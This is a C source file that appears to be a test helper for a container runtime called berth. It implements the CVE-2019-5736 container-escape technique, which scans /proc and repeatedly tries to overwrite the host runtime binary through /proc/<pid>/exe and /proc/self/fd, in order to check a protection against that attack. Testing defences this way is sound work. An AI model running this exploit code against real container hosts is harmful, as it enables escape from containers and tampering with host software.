/* exe_scanner: the CVE-2019-5736 attacker the exe_protect test runs inside a
 * container. Until a deadline it walks /proc and, for every other process
 * whose /proc/<pid>/exe is neither busybox nor itself (a berth process, or
 * whatever copy of berth it runs from):
 *  - tries to open /proc/<pid>/exe for writing;
 *  - keeps it open read-only ("captured"), opens RELEASE (a fifo that berth
 *    process may block on) to let it go on, and for a few seconds tries to
 *    reopen the held fd for writing through /proc/self/fd (the classic
 *    attack: the binary is busy while it runs, writable once it exits).
 * Every write of "PWNED" that lands in the host's berth binary (st_dev and
 * st_ino given on the command line) counts as "writable". It writes
 * "captured N writable M" to OUT and exits after the first capture.
 *
 *   exe_scanner DEV INO SECONDS OUT [RELEASE]
 *
 * Built static by the test (the container has only busybox). */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc < 5) return 2;
    unsigned long long dev = strtoull(argv[1], NULL, 10), ino = strtoull(argv[2], NULL, 10);
    double deadline = now() + atof(argv[3]);
    const char *release = argc > 5 ? argv[5] : NULL;
    int captured = 0, writable = 0, self = getpid();
    struct stat busybox, me;
    if (stat("/bin/busybox", &busybox) < 0 || stat("/proc/self/exe", &me) < 0) return 3;
    while (now() < deadline && !captured) {
        DIR *d = opendir("/proc");
        if (!d) return 3;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) continue;
            struct stat st;
            if (fstat(fd, &st) < 0 || (st.st_dev == busybox.st_dev && st.st_ino == busybox.st_ino) ||
                (st.st_dev == me.st_dev && st.st_ino == me.st_ino)) {
                close(fd);
                continue;
            }
            int host = st.st_dev == dev && st.st_ino == ino;
            captured++;
            int w = open(path, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                writable += host && write(w, "PWNED", 5) == 5;
                close(w);
            }
            if (release) open(release, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
            char self_fd[64];
            snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
            for (double until = now() + 3; now() < until;) {
                w = open(self_fd, O_WRONLY | O_CLOEXEC);
                if (w >= 0) {
                    writable += host && write(w, "PWNED", 5) == 5;
                    close(w);
                    break;
                }
                usleep(1000);
            }
            close(fd);
        }
        closedir(d);
    }
    FILE *out = fopen(argv[4], "w");
    if (!out) return 4;
    fprintf(out, "captured %d writable %d\n", captured, writable);
    fclose(out);
    return 0;
}
